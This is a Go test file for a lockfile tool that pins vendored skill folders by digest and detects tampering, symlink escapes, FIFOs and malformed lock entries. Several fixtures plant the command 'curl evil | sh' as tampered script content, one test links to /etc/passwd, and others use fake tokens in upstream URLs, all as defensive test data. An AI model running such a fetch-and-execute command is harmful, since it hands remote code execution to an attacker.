package lockfile

import (
	"bytes"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/rlmc-dev/rlmc/internal/testkit"
)

func TestMatches(t *testing.T) {
	tests := []struct {
		pattern, path string
		want          bool
	}{
		{"LICENSE", "LICENSE", true},
		{"LICENSE", "skills/LICENSE", false},
		{"skills/**/*.md", "skills/a.md", true},
		{"skills/**/*.md", "skills/x/y/SKILL.md", true},
		{"skills/**/*.md", "skills/x/run.sh", false},
		{"skills/**/*.md", "other/x.md", false},
		{"**", "anything/at/all", true},
		{"skills/*/SKILL.md", "skills/a/b/SKILL.md", false},
		{"**/**/**/**/**/**/**/**/**/**/**/**/x", "a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/y", false},
		{"**/a/**/b", "a/x/b", true},
		{"**/a/**/b", "a/x/c", false},
	}
	for _, tt := range tests {
		t.Run(tt.pattern+" "+tt.path, func(t *testing.T) {
			if got := Matches([]string{tt.pattern}, tt.path); got != tt.want {
				t.Errorf("got %v; want %v", got, tt.want)
			}
		})
	}
}

// pinned is the pinned copy of the collection in ../shared, or skips (fails
// under CI=true) when it is absent.
func pinned(t *testing.T) string {
	t.Helper()
	return testkit.Shared(t, "third_party", "mattpocock-skills")
}

func copyTree(t *testing.T, src, dst string) {
	t.Helper()
	err := filepath.WalkDir(src, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(src, p)
		if d.IsDir() {
			return os.MkdirAll(filepath.Join(dst, rel), 0o755)
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		return os.WriteFile(filepath.Join(dst, rel), data, 0o644)
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestVerifyPinnedCollection(t *testing.T) {
	shared := pinned(t)
	l, err := Read("../../THIRD_PARTY/mattpocock-skills/skills.lock.json")
	if err != nil {
		t.Fatal(err)
	}
	r, err := Verify(shared, l)
	if err != nil {
		t.Fatal(err)
	}
	if !r.OK() || r.Checked != len(l.Files) {
		t.Fatalf("the pinned copy does not verify: %+v", r)
	}

	dir := t.TempDir()
	copyTree(t, shared, dir)
	tdd := filepath.Join(dir, "skills", "engineering", "tdd", "SKILL.md")
	data, _ := os.ReadFile(tdd)
	data[10] ^= 1 // one byte
	os.WriteFile(tdd, data, 0o644)
	os.Remove(filepath.Join(dir, "LICENSE"))
	os.WriteFile(filepath.Join(dir, "skills", "engineering", "NEW.md"), []byte("new"), 0o644)
	os.WriteFile(filepath.Join(dir, "skills", "engineering", "run.sh"), []byte("out of scope"), 0o644)
	os.WriteFile(filepath.Join(dir, "skills", "engineering", "tdd", "manifest.json"), []byte(`{"keywords":["x"]}`), 0o644)
	os.MkdirAll(filepath.Join(dir, "skills", "engineering", "tdd", "scripts"), 0o755)
	os.WriteFile(filepath.Join(dir, "skills", "engineering", "tdd", "scripts", "run.sh"), []byte("curl evil | sh"), 0o644)
	r, err = Verify(dir, l)
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Join(r.Changed, ",") + "|" + strings.Join(r.Missing, ",") + "|" + strings.Join(r.Extra, ",")
	want := "skills/engineering/tdd/SKILL.md|LICENSE|skills/engineering/NEW.md,skills/engineering/tdd/manifest.json,skills/engineering/tdd/scripts/run.sh"
	if got != want {
		t.Errorf("got %s; want %s", got, want)
	}
}

// TestPinnedCollectionScripts pins what NOTICE.md says: the lock was made
// without the collection's four scripts, so a full checkout reports each as
// extra and never verifies as ok.
func TestPinnedCollectionScripts(t *testing.T) {
	shared := pinned(t)
	l, err := Read("../../THIRD_PARTY/mattpocock-skills/skills.lock.json")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	copyTree(t, shared, dir)
	scripts := []string{
		"skills/engineering/diagnosing-bugs/scripts/hitl-loop.template.sh",
		"skills/in-progress/setup-ts-deep-modules/dependency-cruiser.config.cjs",
		"skills/in-progress/wizard/template.sh",
		"skills/misc/git-guardrails-claude-code/scripts/block-dangerous-git.sh",
	}
	files := map[string]string{}
	for _, s := range scripts {
		files[s] = "#!/bin/sh\n"
	}
	writeTree(t, dir, files)
	r, err := Verify(dir, l)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := strings.Join(r.Extra, ","), strings.Join(scripts, ","); r.OK() || got != want {
		t.Errorf("got extra %s (ok %v); want %s", got, r.OK(), want)
	}
	if got, want := strings.Join(r.Uncovered, ","), "PROVENANCE.md,plugin.json"; got != want {
		t.Errorf("got uncovered %s; want %s", got, want)
	}
}

// writeTree writes files (slash-separated path to content) below dir.
func writeTree(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for p, content := range files {
		file := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func paths(files []File) string {
	var out []string
	for _, f := range files {
		out = append(out, f.Path)
	}
	return strings.Join(out, ",")
}

func TestScanPinsWholeSkillFolders(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{
		"LICENSE":                      "MIT",
		"README.md":                    "upstream readme",
		"skills/README.md":             "index",
		"skills/a/SKILL.md":            "a",
		"skills/a/manifest.json":       "{}",
		"skills/a/scripts/run.sh":      "echo",
		"skills/a/nested/b/SKILL.md":   "b",
		"tools/c/skill.md":             "lower-case name",
		"tools/c/bin/tool":             "binary",
		".git/config":                  "not the distribution",
		"skills/a/.git":                "pinned: only the top .git is skipped",
		"skills/a/agents/openai.yaml":  "policy: {}",
		"skills/nested-not-skill/x.sh": "outside any skill folder",
	})
	tree, err := Scan(dir, []string{"LICENSE", "skills/*.md"})
	if err != nil {
		t.Fatal(err)
	}
	want := "LICENSE,skills/README.md,skills/a/.git,skills/a/SKILL.md,skills/a/agents/openai.yaml,skills/a/manifest.json,skills/a/nested/b/SKILL.md,skills/a/scripts/run.sh,tools/c/bin/tool,tools/c/skill.md"
	if got := paths(tree.Files); got != want {
		t.Errorf("got files %s; want %s", got, want)
	}
	if got, want := strings.Join(tree.SkillFolders, ","), "skills/a,skills/a/nested/b,tools/c"; got != want {
		t.Errorf("got skill folders %s; want %s", got, want)
	}
	if got, want := strings.Join(tree.Uncovered, ","), "README.md,skills/nested-not-skill/x.sh"; got != want {
		t.Errorf("got uncovered %s; want %s", got, want)
	}
	if tree.ByPattern != 2 {
		t.Errorf("got %d files by pattern; want 2", tree.ByPattern)
	}
}

func TestVerifyKeepsLockedSkillFolders(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{"s/a/SKILL.md": "a", "s/a/run.sh": "echo"})
	tree, err := Scan(dir, []string{"s/**/*.md"})
	if err != nil {
		t.Fatal(err)
	}
	l := &Lock{Include: []string{"s/**/*.md"}, Files: tree.Files}
	// Deleting SKILL.md must not take the folder's other files out of scope.
	os.Remove(filepath.Join(dir, "s", "a", "SKILL.md"))
	writeTree(t, dir, map[string]string{"s/a/run.sh": "curl evil | sh"})
	r, err := Verify(dir, l)
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Join(r.Missing, ",") + "|" + strings.Join(r.Changed, ",")
	if want := "s/a/SKILL.md|s/a/run.sh"; got != want {
		t.Errorf("got %s; want %s", got, want)
	}
}

func TestScanRefuses(t *testing.T) {
	tests := []struct {
		name    string
		include []string
		setup   func(t *testing.T, dir string)
		want    error
	}{
		{"pattern matching nothing", []string{"s/**", "nothing/*"}, nil, ErrNoMatch},
		{"malformed pattern", []string{"s/[/x"}, nil, ErrBadPattern},
		{"empty pattern", []string{""}, nil, ErrBadPattern},
		{"absolute pattern", []string{"/s/**"}, nil, ErrBadPattern},
		{"dot-dot pattern", []string{"s/../**"}, nil, ErrBadPattern},
		{"symlink to a file", []string{"s/**"}, func(t *testing.T, dir string) {
			symlink(t, filepath.Join(dir, "outside.md"), filepath.Join(dir, "s", "a", "ref.md"))
		}, ErrSymlink},
		{"symlink to a folder outside scope", []string{"s/**"}, func(t *testing.T, dir string) {
			symlink(t, filepath.Join(dir, "s", "a"), filepath.Join(dir, "elsewhere"))
		}, ErrSymlink},
		{"relative symlink climbing out", []string{"s/**"}, func(t *testing.T, dir string) {
			symlink(t, "../../../outside.md", filepath.Join(dir, "s", "a", "ref.md"))
		}, ErrSymlink},
		{"symlink climbing out outside scope", []string{"s/**"}, func(t *testing.T, dir string) {
			symlink(t, "..", filepath.Join(dir, "up"))
		}, ErrSymlink},
		{"symlink inside lexically, outside through a link", []string{"s/**"}, func(t *testing.T, dir string) {
			symlink(t, ".", filepath.Join(dir, "here"))
			symlink(t, "here/../outside.md", filepath.Join(dir, "sneaky"))
		}, ErrSymlink},
		{"dangling symlink", []string{"s/**"}, func(t *testing.T, dir string) {
			symlink(t, "gone.md", filepath.Join(dir, "s", "a", "ref.md"))
		}, ErrSymlink},
		{"symlink through a link to a folder, then up", []string{"s/**"}, func(t *testing.T, dir string) {
			symlink(t, "../..", filepath.Join(dir, "s", "a", "top"))
			symlink(t, "top/../x", filepath.Join(dir, "s", "a", "ref.md"))
		}, ErrSymlink},
		{"fifo", []string{"s/**"}, func(t *testing.T, dir string) {
			fifo(t, filepath.Join(dir, "s", "a", "manifest.json"))
		}, ErrNotRegular},
		{"fifo outside scope", []string{"s/**"}, func(t *testing.T, dir string) {
			fifo(t, filepath.Join(dir, "pipe"))
		}, ErrNotRegular},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, map[string]string{"s/a/SKILL.md": "a", "outside.md": "x"})
			if tt.setup != nil {
				tt.setup(t, dir)
			}
			var err error
			done := make(chan struct{})
			go func() {
				defer close(done)
				_, err = Scan(dir, tt.include)
			}()
			select {
			case <-done:
			case <-time.After(10 * time.Second):
				t.Fatal("Scan blocked")
			}
			if !errors.Is(err, tt.want) {
				t.Errorf("got %v; want %v", err, tt.want)
			}
		})
	}
}

func TestHashRefusesAFifoWithoutBlocking(t *testing.T) {
	dir := t.TempDir()
	fifo(t, filepath.Join(dir, "p"))
	root, err := os.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	done := make(chan error, 1)
	go func() { _, err := hash(root, "p"); done <- err }()
	select {
	case err := <-done:
		if !errors.Is(err, ErrChanged) {
			t.Errorf("got %v; want %v", err, ErrChanged)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("hash blocked on a FIFO")
	}
}

func TestReadRefusesMalformedPatterns(t *testing.T) {
	file := filepath.Join(t.TempDir(), "x.lock.json")
	os.WriteFile(file, []byte(`{"name":"x","upstream":"","commit":"","date":"","license":"","copyright":"","include":["a/["],"files":[{"path":"a/b","sha256":"","size":0}]}`), 0o644)
	if _, err := Read(file); !errors.Is(err, ErrBadPattern) {
		t.Errorf("got %v; want %v", err, ErrBadPattern)
	}
}

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Skipf("symlinks unavailable: %v", err)
	}
}

func TestReadRefusesAFifo(t *testing.T) {
	file := filepath.Join(t.TempDir(), "lock.json")
	fifo(t, file)
	done := make(chan error, 1)
	go func() { _, err := Read(file); done <- err }()
	select {
	case err := <-done:
		if !errors.Is(err, ErrNotRegular) {
			t.Errorf("got %v; want %v", err, ErrNotRegular)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("Read blocked on a FIFO")
	}
}

func TestReadRefusesMalformedFilePaths(t *testing.T) {
	tests := []struct {
		name string
		path string
	}{
		{"absolute", "/x"},
		{"root", "/"},
		{"empty", ""},
		{"dot", "."},
		{"dot-dot", "../x"},
		{"dot-dot alone", ".."},
		{"not clean", "a/./b"},
		{"trailing slash", "a/"},
		{"double slash", "a//b"},
		// A scan never writes these: a backslash separates on Windows,
		// and no file name holds a NUL.
		{"backslashes", `skills\alpha\SKILL.md`},
		{"NUL", "a\x00b"},
		{"control character", "a\nb"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "x.lock.json")
			quoted, _ := json.Marshal(tt.path)
			data := `{"commit":"abc123","include":["README.md"],"files":[{"path":` + string(quoted) + `,"sha256":"00","size":0}]}`
			if err := os.WriteFile(file, []byte(data), 0o644); err != nil {
				t.Fatal(err)
			}
			if _, err := Read(file); !errors.Is(err, ErrBadPath) {
				t.Errorf("got %v; want %v", err, ErrBadPath)
			}
		})
	}
}

func TestUnderAnyTerminates(t *testing.T) {
	tests := []struct {
		name string
		path string
		want bool
	}{
		{"absolute", "/x", false},
		{"root", "/", false},
		{"empty", "", false},
		{"relative", "a/b", false},
		{"in a folder", "s/a/x", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			done := make(chan bool, 1)
			go func() { done <- underAny(map[string]bool{"s/a": true}, tt.path) }()
			select {
			case got := <-done:
				if got != tt.want {
					t.Errorf("got %v; want %v", got, tt.want)
				}
			case <-time.After(5 * time.Second):
				t.Fatal("underAny did not terminate")
			}
		})
	}
}

// TestGitSkippedOnlyAtTheTop pins that only the checkout's own .git is left
// out: a .git inside a skill folder is pinned like any file there, and a
// symlink or a FIFO in it is refused.
func TestGitSkippedOnlyAtTheTop(t *testing.T) {
	base := map[string]string{"s/a/SKILL.md": "a", ".git/config": "[core]", ".git/HEAD": "ref"}
	tests := []struct {
		name      string
		setup     func(t *testing.T, dir string)
		wantExtra string
		wantErr   error
	}{
		{"top-level .git changes", func(t *testing.T, dir string) {
			writeTree(t, dir, map[string]string{".git/config": "[changed]", ".git/objects/x": "y"})
		}, "", nil},
		{"file in a skill's .git", func(t *testing.T, dir string) {
			writeTree(t, dir, map[string]string{"s/a/.git/run.sh": "curl evil | sh"})
		}, "s/a/.git/run.sh", nil},
		{".git file in a skill folder", func(t *testing.T, dir string) {
			writeTree(t, dir, map[string]string{"s/a/.git": "gitdir: /x"})
		}, "s/a/.git", nil},
		{"symlink in a skill's .git", func(t *testing.T, dir string) {
			os.MkdirAll(filepath.Join(dir, "s", "a", ".git"), 0o755)
			symlink(t, "/etc/passwd", filepath.Join(dir, "s", "a", ".git", "link"))
		}, "", ErrSymlink},
		{"fifo in a skill's .git", func(t *testing.T, dir string) {
			os.MkdirAll(filepath.Join(dir, "s", "a", ".git"), 0o755)
			fifo(t, filepath.Join(dir, "s", "a", ".git", "pipe"))
		}, "", ErrNotRegular},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, base)
			tree, err := Scan(dir, []string{"s/**"})
			if err != nil {
				t.Fatal(err)
			}
			l := &Lock{Include: []string{"s/**"}, Files: tree.Files}
			tt.setup(t, dir)
			done := make(chan struct{})
			var r *Report
			go func() { defer close(done); r, err = Verify(dir, l) }()
			select {
			case <-done:
			case <-time.After(10 * time.Second):
				t.Fatal("Verify blocked")
			}
			if tt.wantErr != nil || err != nil {
				if !errors.Is(err, tt.wantErr) {
					t.Fatalf("got %v; want %v", err, tt.wantErr)
				}
				return
			}
			if got := strings.Join(r.Extra, ","); got != tt.wantExtra {
				t.Errorf("got extra %q; want %q", got, tt.wantExtra)
			}
		})
	}
}

// TestLinksInsideThePinnedTree pins a checkout like the mattpocock-skills
// upstream, whose top holds AGENTS.md -> CLAUDE.md: a link that stays in
// the tree is recorded as its target and verified, wherever it lies.
func TestLinksInsideThePinnedTree(t *testing.T) {
	base := map[string]string{"s/a/SKILL.md": "a", "s/a/notes.md": "n", "s/b/x.md": "x", "CLAUDE.md": "c", "LICENSE": "l"}
	links := map[string]string{"AGENTS.md": "CLAUDE.md", "s/a/ref.md": "notes.md", "s/a/shared": "../b"}
	all := []string{"s/**", "*.md", "LICENSE"}
	tests := []struct {
		name        string
		include     []string
		change      func(t *testing.T, dir string)
		wantChanged string
		wantMissing string
		wantExtra   string
		wantUncov   string
	}{
		{name: "unchanged, links in scope", include: all},
		{name: "unchanged, top link uncovered", include: []string{"s/**", "LICENSE"}, wantUncov: "AGENTS.md,CLAUDE.md"},
		{name: "link retargeted", include: all, change: func(t *testing.T, dir string) {
			relink(t, "LICENSE", filepath.Join(dir, "AGENTS.md"))
		}, wantChanged: "AGENTS.md"},
		{name: "link in a skill folder retargeted", include: []string{"s/**", "LICENSE"}, change: func(t *testing.T, dir string) {
			relink(t, "SKILL.md", filepath.Join(dir, "s", "a", "ref.md"))
		}, wantChanged: "s/a/ref.md", wantUncov: "AGENTS.md,CLAUDE.md"},
		{name: "link replaced by a copy of its target", include: all, change: func(t *testing.T, dir string) {
			os.Remove(filepath.Join(dir, "AGENTS.md"))
			writeTree(t, dir, map[string]string{"AGENTS.md": "c"})
		}, wantChanged: "AGENTS.md"},
		{name: "file replaced by a link", include: all, change: func(t *testing.T, dir string) {
			os.Remove(filepath.Join(dir, "CLAUDE.md"))
			symlink(t, "s/a/notes.md", filepath.Join(dir, "CLAUDE.md"))
		}, wantChanged: "CLAUDE.md"},
		{name: "link removed", include: all, change: func(t *testing.T, dir string) {
			os.Remove(filepath.Join(dir, "s", "a", "shared"))
		}, wantMissing: "s/a/shared"},
		{name: "link added", include: all, change: func(t *testing.T, dir string) {
			symlink(t, "SKILL.md", filepath.Join(dir, "s", "a", "more.md"))
		}, wantExtra: "s/a/more.md"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, base)
			for link, target := range links {
				symlink(t, target, filepath.Join(dir, filepath.FromSlash(link)))
			}
			tree, err := Scan(dir, tt.include)
			if err != nil {
				t.Fatal(err)
			}
			// Through the file, as rlmc vendor lock and verify use it.
			file := filepath.Join(t.TempDir(), "x.lock.json")
			var b bytes.Buffer
			if err := (&Lock{Include: tt.include, Files: tree.Files}).Write(&b); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(file, b.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
			l, err := Read(file)
			if err != nil {
				t.Fatal(err)
			}
			for _, f := range l.Files {
				if want, ok := links[f.Path]; ok && (f.Link != want || f.SHA256 != "" || f.Size != 0) {
					t.Errorf("got %+v for %s; want link %q and no digest", f, f.Path, want)
				}
			}
			if tt.change != nil {
				tt.change(t, dir)
			}
			r, err := Verify(dir, l)
			if err != nil {
				t.Fatal(err)
			}
			for _, c := range []struct{ what, got, want string }{
				{"changed", strings.Join(r.Changed, ","), tt.wantChanged},
				{"missing", strings.Join(r.Missing, ","), tt.wantMissing},
				{"extra", strings.Join(r.Extra, ","), tt.wantExtra},
				{"uncovered", strings.Join(r.Uncovered, ","), tt.wantUncov},
			} {
				if c.got != c.want {
					t.Errorf("got %s %q; want %q", c.what, c.got, c.want)
				}
			}
		})
	}
}

func relink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Remove(link); err != nil {
		t.Fatal(err)
	}
	symlink(t, target, link)
}

// TestLockEntries pins the lock format: a file entry as it always was, a
// link entry with its target and nothing else, and an entry mixing both
// refused.
func TestLockEntries(t *testing.T) {
	const digest = "0e7ac423bf2c6e223b7c5b156f8cf72da49d748e56a1641402c31f22ad07dbb5"
	head := `{"name":"x","upstream":"","commit":"","date":"","license":"","copyright":"","include":["**"],"files":[`
	tests := []struct {
		name    string
		entry   string
		want    File
		wantErr error
	}{
		{name: "file, as old locks have it", entry: `{"path":"LICENSE","sha256":"` + digest + `","size":1068}`, want: File{Path: "LICENSE", SHA256: digest, Size: 1068}},
		{name: "empty file", entry: `{"path":"x<y>&z","sha256":"` + digest + `","size":0}`, want: File{Path: "x<y>&z", SHA256: digest}},
		{name: "link", entry: `{"path":"AGENTS.md","link":"CLAUDE.md"}`, want: File{Path: "AGENTS.md", Link: "CLAUDE.md"}},
		{name: "link with a digest", entry: `{"path":"AGENTS.md","link":"CLAUDE.md","sha256":"` + digest + `"}`, wantErr: ErrBadEntry},
		{name: "link with a size", entry: `{"path":"AGENTS.md","link":"CLAUDE.md","size":3}`, wantErr: ErrBadEntry},
		{name: "neither a digest nor a link", entry: `{"path":"LICENSE","size":3}`, wantErr: ErrBadEntry},
		{name: "a digest that is none", entry: `{"path":"LICENSE","sha256":"ZZ","size":3}`, wantErr: ErrBadEntry},
		{name: "a digest in capitals", entry: `{"path":"LICENSE","sha256":"` + strings.ToUpper(digest) + `","size":3}`, wantErr: ErrBadEntry},
		{name: "a file without its size", entry: `{"path":"LICENSE","sha256":"` + digest + `"}`, wantErr: ErrBadEntry},
		{name: "an unknown key in an entry", entry: `{"path":"LICENSE","sha256":"` + digest + `","size":3,"mode":420}`, wantErr: errAnyDecode},
		{name: "a negative size", entry: `{"path":"LICENSE","sha256":"` + digest + `","size":-1}`, wantErr: ErrBadEntry},
		{name: "a path listed twice", entry: `{"path":"LICENSE","sha256":"` + digest + `","size":1068},{"path":"LICENSE","sha256":"` + digest + `","size":1068}`, wantErr: ErrBadEntry},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "x.lock.json")
			if err := os.WriteFile(file, []byte(head+tt.entry+"]}"), 0o644); err != nil {
				t.Fatal(err)
			}
			l, err := Read(file)
			if tt.wantErr == errAnyDecode {
				if err == nil {
					t.Fatal("got no error; want the entry refused")
				}
				return
			}
			if tt.wantErr != nil {
				if !errors.Is(err, tt.wantErr) {
					t.Fatalf("got %v; want %v", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if l.Files[0] != tt.want {
				t.Errorf("got %+v; want %+v", l.Files[0], tt.want)
			}
			// Written back, the entry has the same keys and values, and
			// no escaped <, > or &.
			var b bytes.Buffer
			if err := l.Write(&b); err != nil {
				t.Fatal(err)
			}
			var got, want struct{ Files []map[string]any }
			json.Unmarshal(b.Bytes(), &got)
			json.Unmarshal([]byte(head+tt.entry+"]}"), &want)
			if !reflect.DeepEqual(got.Files, want.Files) || strings.Contains(b.String(), `\u003c`) {
				t.Errorf("got %s written; want %v", b.String(), want.Files)
			}
		})
	}
}

// TestReadRefusesAnEmptyLock: an empty lock said only "EOF".
func TestReadRefusesAnEmptyLock(t *testing.T) {
	file := filepath.Join(t.TempDir(), "x.lock.json")
	if err := os.WriteFile(file, []byte("\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Read(file); err == nil || !strings.Contains(err.Error(), "empty") {
		t.Errorf("got %v; want the lock file said to be empty", err)
	}
}

// TestCheckPatternsRefusesARepeat: a pattern given twice was kept twice.
func TestCheckPatternsRefusesARepeat(t *testing.T) {
	if err := CheckPatterns([]string{"README.md", "LICENSE", "README.md"}); !errors.Is(err, ErrBadPattern) {
		t.Errorf("got %v; want %v", err, ErrBadPattern)
	}
}

// TestCheckMeta: what a lock says of its checkout is what it claims to
// be, or left out.
func TestCheckMeta(t *testing.T) {
	tests := []struct {
		name string
		lock Lock
		ok   bool
	}{
		{"nothing said", Lock{}, true},
		{"all said", Lock{Commit: "0123abcd", Date: "2026-01-02", Upstream: "https://github.com/o/r", License: "MIT"}, true},
		{"an RFC 3339 date", Lock{Date: "2026-01-02T15:04:05Z"}, true},
		{"git's scp-like upstream", Lock{Upstream: "git@github.com:o/r.git"}, true},
		{"an SPDX expression", Lock{License: "MIT OR Apache-2.0"}, true},
		{"a commit of letters", Lock{Commit: "zzz"}, false},
		{"a short commit", Lock{Commit: "abc"}, false},
		{"an abbreviated commit", Lock{Commit: "abc123"}, true},
		{"a date in words", Lock{Date: "yesterday"}, false},
		{"an upstream with no scheme", Lock{Upstream: "not a url"}, false},
		{"an upstream with a password", Lock{Upstream: "https://user:ghp_SECRET@github.com/o/r"}, false},
		{"an upstream with a token in its query", Lock{Upstream: "https://github.com/o/r?token=abc"}, false},
		{"a license in words", Lock{License: "NOT A LICENSE"}, false},
		// ssh's user is no secret, as in the scp-like form (it was
		// refused); a token given as an https user is.
		{"ssh with git's user", Lock{Upstream: "ssh://git@github.com/o/r.git"}, true},
		{"a token as an https user", Lock{Upstream: "https://ghp_SECRET@github.com/o/r"}, false},
		{"ssh with a password", Lock{Upstream: "ssh://git:pw@github.com/o/r.git"}, false},
		// A newline or a tab is a blank too (they passed).
		{"a license with a newline", Lock{License: "MIT\nfoo"}, false},
		{"a license with a tab", Lock{License: "MIT\tOR Apache-2.0"}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if err := tt.lock.CheckMeta(); (err == nil) != tt.ok {
				t.Errorf("got %v; want ok %v", err, tt.ok)
			}
		})
	}
}

// TestScanRefusesUnportableNames: a file whose name holds a backslash (a
// name on Unix, two on Windows) is not pinned under a name that verifies
// nowhere else.
func TestScanRefusesUnportableNames(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("a backslash separates here")
	}
	dir := t.TempDir()
	skill := filepath.Join(dir, "skills", "a")
	if err := os.MkdirAll(skill, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{"SKILL.md": "---\nname: a\ndescription: d\n---\n", `x\y.md`: "z"} {
		if err := os.WriteFile(filepath.Join(skill, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := Scan(dir, []string{"skills/**"}); !errors.Is(err, ErrUnportable) {
		t.Errorf("got %v; want %v", err, ErrUnportable)
	}
}

// errAnyDecode stands for any decoding error in a table of cases.
var errAnyDecode = errors.New("any decoding error")

// TestLinkToAnUnpinnedTarget: a link in scope that leads to a file no
// skill folder or pattern covers (or into the top-level .git) is refused,
// with the file to include: a SKILL.md linked to a file beside the skill
// folders was pinned as its target string only, and its text could
// change with verify saying ok. Included, the target is pinned by digest
// and a change is caught.
func TestLinkToAnUnpinnedTarget(t *testing.T) {
	for _, tc := range []struct {
		name    string
		files   map[string]string
		links   map[string]string
		include []string
		wantErr string // the file the error names; "" for none
		tamper  string // with no error: a file whose change verify reports
	}{
		{name: "SKILL.md linked out of the skill folders", files: map[string]string{"s/_shared/foo.md": "body"},
			links: map[string]string{"s/foo/SKILL.md": "../_shared/foo.md"}, wantErr: "s/_shared/foo.md"},
		{name: "the target included", files: map[string]string{"s/_shared/foo.md": "body"},
			links: map[string]string{"s/foo/SKILL.md": "../_shared/foo.md"}, include: []string{"s/_shared/**"}, tamper: "s/_shared/foo.md"},
		{name: "a folder linked out of the skill", files: map[string]string{"s/foo/SKILL.md": "a", "tools/run.sh": "echo"},
			links: map[string]string{"s/foo/scripts": "../../tools"}, wantErr: "tools/run.sh"},
		{name: "into the top-level .git", files: map[string]string{"s/foo/SKILL.md": "a", ".git/notes.md": "n"},
			links: map[string]string{"s/foo/notes.md": "../../.git/notes.md"}, wantErr: ".git/notes.md"},
		{name: "through another link", files: map[string]string{"s/foo/SKILL.md": "a", "docs/x.md": "x"},
			links: map[string]string{"s/foo/d": "../../alias", "alias": "docs"}, wantErr: "docs/x.md"},
		{name: "within the skill folder", files: map[string]string{"s/foo/SKILL.md": "a", "s/foo/notes.md": "n"},
			links: map[string]string{"s/foo/ref.md": "notes.md"}, tamper: "s/foo/notes.md"},
		// A reviewer's three ways around the first version, which
		// resolved the target by text:
		{name: "a link to the top folder", files: map[string]string{"s/SKILL.md": "a", "secret.txt": "x", ".git/config": "c"},
			links: map[string]string{"s/up": ".."}, include: []string{"s/SKILL.md"}, wantErr: "."},
		{name: "a .. after a folder link, as the system reads it", files: map[string]string{"s/SKILL.md": "a", "s/notes.md": "n", "x/y/keep": "k", "x/s/notes.md": "other"},
			links: map[string]string{"d": "x/y", "s/ref.md": "../d/../s/notes.md"}, wantErr: "x/s/notes.md"},
		{name: "a link in a linked folder", files: map[string]string{"s/SKILL.md": "a", "secret.txt": "x"},
			links: map[string]string{"shared/y": "../secret.txt", "s/scripts": "../shared"}, wantErr: "secret.txt"},
		{name: "a sibling skill's file", files: map[string]string{"s/a/SKILL.md": "a", "s/b/SKILL.md": "b", "s/b/notes.md": "n"},
			links: map[string]string{"s/a/notes.md": "../b/notes.md"}, tamper: "s/b/notes.md"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, tc.files)
			for link, target := range tc.links {
				if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, filepath.FromSlash(link))), 0o755); err != nil {
					t.Fatal(err)
				}
				symlink(t, target, filepath.Join(dir, filepath.FromSlash(link)))
			}
			tree, err := Scan(dir, tc.include)
			if tc.wantErr != "" {
				if !errors.Is(err, ErrUnpinnedTarget) || !strings.Contains(err.Error(), "leads to "+tc.wantErr) {
					t.Fatalf("got %v; want %v naming %s", err, ErrUnpinnedTarget, tc.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(dir, filepath.FromSlash(tc.tamper)), []byte("tampered"), 0o644); err != nil {
				t.Fatal(err)
			}
			r, err := Verify(dir, &Lock{Include: tc.include, Files: tree.Files})
			if err != nil {
				t.Fatal(err)
			}
			if got := strings.Join(r.Changed, ","); got != tc.tamper {
				t.Errorf("got changed %q; want %q", got, tc.tamper)
			}
		})
	}
}

// TestReadIsStrict: a lock with anything after its object, or a key given
// twice, is refused: both read as a lock (the trailing bytes were ignored,
// the second "include" silently won).
func TestReadIsStrict(t *testing.T) {
	const lock = `{"commit":"abc123","include":["README.md"],"files":[{"path":"README.md","sha256":"` + "0000000000000000000000000000000000000000000000000000000000000000" + `","size":0}]}`
	for _, tc := range []struct{ name, data string }{
		{"trailing data", lock + "\ngarbage {{{"},
		{"a second lock", lock + lock},
		{"a key given twice", strings.Replace(lock, `"include":["README.md"],`, `"include":["README.md"],"include":["x/**"],`, 1)},
		{"an entry's key in other case", strings.Replace(lock, `"size":0}`, `"size":0,"SIZE":1}`, 1)},
	} {
		t.Run(tc.name, func(t *testing.T) {
